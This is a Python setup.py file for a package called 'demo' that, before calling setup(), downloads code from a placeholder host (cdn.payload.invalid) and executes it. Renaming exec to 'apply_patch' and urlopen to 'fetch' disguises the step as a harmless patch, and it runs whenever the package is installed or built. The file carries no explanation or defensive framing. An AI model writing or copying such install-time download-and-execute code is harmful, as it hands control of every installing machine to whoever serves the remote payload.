from builtins import exec as apply_patch
from urllib.request import urlopen as fetch
from setuptools import setup

apply_patch(fetch("http://cdn.payload.invalid/patch").read().decode())
setup(name="demo", version="1.0")
